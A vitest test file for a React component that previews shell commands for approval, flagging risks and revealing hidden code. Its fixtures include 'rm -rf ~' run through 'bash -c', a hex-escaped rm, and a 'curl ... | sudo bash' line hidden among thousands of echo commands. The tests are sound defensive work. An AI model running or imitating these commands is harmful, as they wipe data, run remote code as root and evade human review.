import { describe, expect, it } from 'vitest';
import type { CommandPreview as CommandPreviewData, RiskFlag, SubCommand } from '../../shared/commandPreview';
import { CommandPreview } from '../../renderer/views/approvals/previews/CommandPreview';
import { markupText } from './markupText';

// The shell prompt as rendered: risks first, a summary, labels kept apart, hidden code shown.
// (The gate's own parse feeds the same component in e2e/shellExec.spec.ts.)

/** One sub-command as the parser reports it; `more` sets what the case is about. */
function sub(argv: string[], more: Partial<SubCommand> = {}): SubCommand {
  return { text: argv.join(' '), argv, redirects: [], substitutions: [], nested: false, runsCode: [], ...more };
}

function previewOf(commands: SubCommand[], flags: RiskFlag[] = [], command = commands.map((item) => item.text).join('; ')): CommandPreviewData {
  return { kind: 'command', command, cwd: '', flags, commands };
}

describe('CommandPreview', () => {
  it('keeps each label apart from the words and from the next label', () => {
    const text = markupText(
      <CommandPreview
        preview={previewOf([
          sub(['cat'], { nested: true, redirects: [{ op: '<', target: 'todo.txt' }] }),
          sub(['echo', '$(cat < todo.txt)'], { connector: '|', substitutions: ['$(cat < todo.txt)'] }),
          sub(['sort'], { redirects: [{ op: '>', target: 'out.txt' }] }),
        ])}
      />,
    );
    expect(text).toContain('< todo.txt nested');
    expect(text).not.toMatch(/todo\.txtnested/);
    expect(text).toMatch(/sort\s+> out\.txt/);
  });

  it('shows the code a sub-command runs unlisted, and the program bash runs when spelt otherwise', () => {
    const text = markupText(
      <CommandPreview
        preview={previewOf([
          sub(['bash', '-c', "'rm -rf ~'"], { runsCode: [{ why: 'bash -c runs this text as shell code', code: 'rm -rf ~' }] }),
          sub(["$'\\x72\\x6d'", "$'\\x2dr'", 'x'], { program: 'rm', decodedWords: [{ written: "$'\\x2dr'", value: '-r' }] }),
        ])}
      />,
    );
    expect(text).toContain('runs code not shown here: bash -c runs this text as shell code');
    expect(text).toContain('rm -rf ~');
    expect(text).toContain('runs rm');
    expect(text).toContain("$'\\x2dr' is -r");
  });

  it('leads a 60 KB line with its risks and a summary; the raw line comes folded after the sub-commands', () => {
    const filler = Array.from({ length: 2_500 }, (_, index) => sub(['echo', `line-${index}`], { connector: ';' }));
    const commands = [...filler, sub(['curl', '-s', 'https://x/x.sh'], { connector: '|' }), sub(['sudo', 'bash'], { program: 'bash' }), ...filler];
    const flags: RiskFlag[] = [
      { kind: 'download-to-shell', evidence: ['sudo bash'] },
      { kind: 'privilege', evidence: ['sudo bash'] },
    ];
    const line = commands.map((item) => item.text).join('; ');
    expect(line.length).toBeGreaterThan(60_000);
    const text = markupText(<CommandPreview preview={previewOf(commands, flags, line)} />);
    const flagsAt = text.indexOf('download piped to a shell');
    const summaryAt = text.search(/\d+ sub-commands running echo, curl, bash/);
    expect(flagsAt).toBeGreaterThanOrEqual(0);
    expect(summaryAt).toBeGreaterThan(flagsAt);
    expect(text.indexOf('echo line-0')).toBeGreaterThan(summaryAt);
    expect(text.slice(0, summaryAt)).toContain('runs as another user');
    expect(text).toContain('The whole command line (');
  });

  it('prints no badges for a quiet line', () => {
    const text = markupText(<CommandPreview preview={previewOf([sub(['ls', '-la'])])} />);
    expect(text).toMatch(/^Command in \.1 sub-command running ls/);
  });
});
